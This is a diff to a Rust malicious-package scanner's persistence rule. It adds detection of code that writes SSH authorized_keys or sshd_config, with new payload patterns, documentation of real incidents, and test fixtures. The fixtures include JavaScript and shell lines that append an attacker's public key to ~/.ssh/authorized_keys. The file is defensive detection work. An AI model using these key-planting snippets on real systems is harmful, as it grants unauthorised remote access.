@@ -27,6 +27,7 @@ something into a location that executes later:
 | schedulers | `crontab`, `/etc/cron.d`, systemd units (`~/.config/systemd/user`, `systemctl enable`), `~/Library/LaunchAgents`, `launchctl load`, `schtasks /create` |
 | Windows start-up | `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, the Startup folder |
 | git | `.git/hooks/*` |
+| remote access | `~/.ssh/authorized_keys` (a planted public key is a login), `sshd_config` |
 | CI runners | self-hosted GitHub runner registration (`config.sh --url … --token`, `actions/runner` download) |
 
 The path can be in the call's folded arguments or a string constant a few lines away
@@ -41,6 +42,8 @@ down, deletes files or dumps `secrets` from a workflow, and for runner registrat
   victim's machine as a self-hosted runner named SHA1HULUD and added a `discussion.yaml`
   workflow that runs commands from discussion bodies.
 - nx s1ngularity (August 2025) appended `sudo shutdown -h 0` to `~/.bashrc` and `~/.zshrc`.
+- Typosquats of node-telegram-bot-api (reported by Socket, 2025) appended the attacker's SSH
+  keys to `~/.ssh/authorized_keys` on Linux hosts, a login that outlives the package.
 - Long-lived Linux droppers add `@reboot` crontab lines or systemd user services; Windows
   stealers add Run keys or drop a shortcut in the Startup folder.
 
@@ -130,7 +133,15 @@ const LOCATIONS: &[(&str, &[&str], Severity)] = &[
         Severity::High,
     ),
     ("a git hook", &[".git/hooks/", ".git\\hooks\\"], Severity::Low),
+    (
+        "an SSH authorized_keys file",
+        &["authorized_keys", "/etc/ssh/sshd_config"],
+        Severity::High,
+    ),
 ];
+
+/// The location whose writes grant remote access rather than run code later.
+const SSH_ACCESS: &str = "an SSH authorized_keys file";
 
 pub(super) const RUNNER: &[&str] = &[
     "config.sh --url",
@@ -177,6 +188,10 @@ const PAYLOAD: &[&str] = &[
     "webhook.site",
     "runs-on: self-hosted",
     "${{ github.event.discussion.body }}",
+    "ssh-rsa ",
+    "ssh-ed25519 ",
+    "ecdsa-sha2-",
+    "permitrootlogin yes",
 ];
 
 fn location_in(text: &str) -> Option<(&'static str, Severity)> {
@@ -359,7 +374,7 @@ impl FileRule for Persistence {
             };
             // A shell command only counts when it writes (`>>`, `tee`, `sed -i`, `reg add`, …).
             if executes
-                && location.0 == "a shell start-up file"
+                && (location.0 == "a shell start-up file" || location.0 == SSH_ACCESS)
                 && !contains_any(&text, &[">>", "> ", "tee ", "sed -i", "cp ", "mv "])
             {
                 continue;
@@ -383,6 +398,12 @@ impl FileRule for Persistence {
                 "writes"
             };
             let message = match payload {
+                _ if label == SSH_ACCESS => format!(
+                    "Code {how} {label}{}: a key planted there lets its owner log in to this machine over SSH.",
+                    payload
+                        .map(|p| format!(" with `{}` in it", p.trim()))
+                        .unwrap_or_default()
+                ),
                 Some(payload) => format!(
                     "Code {how} {label} with `{}` in it: it would run again on every shell, boot, push or CI job.",
                     payload.trim()
@@ -475,6 +496,26 @@ execSync('curl -o runner.tar.gz -L https://github.com/actions/runner/releases/do
 execSync(`./config.sh --url https://github.com/${owner}/${repo} --unattended --token ${token} --name SHA1HULUD`);
 "#;
         assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn flags_planted_ssh_key() {
+        let append = r#"
+const fs = require('fs'), os = require('os');
+const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0x attacker@vps';
+const file = os.homedir() + '/.ssh/authorized_keys';
+fs.appendFileSync(file, '\n' + key + '\n');
+"#;
+        let findings = run(append);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert!(findings[0].message.contains("log in"), "{}", findings[0].message);
+        let shell = r#"require('child_process').execSync('echo "ssh-rsa AAAAB3Nza x@y" >> ~/.ssh/authorized_keys');"#;
+        assert_eq!(worst(&run(shell)), Some(Severity::Critical));
+        // Reading the file (an SSH client listing keys) or a command that only mentions it is not a write.
+        let read = "const fs = require('fs');\nconst keys = fs.readFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'utf8');";
+        assert!(run(read).is_empty(), "{:#?}", run(read));
+        let list = r#"require('child_process').execSync('ssh-keygen -l -f ~/.ssh/authorized_keys');"#;
+        assert!(run(list).is_empty(), "{:#?}", run(list));
     }
 
     #[test]
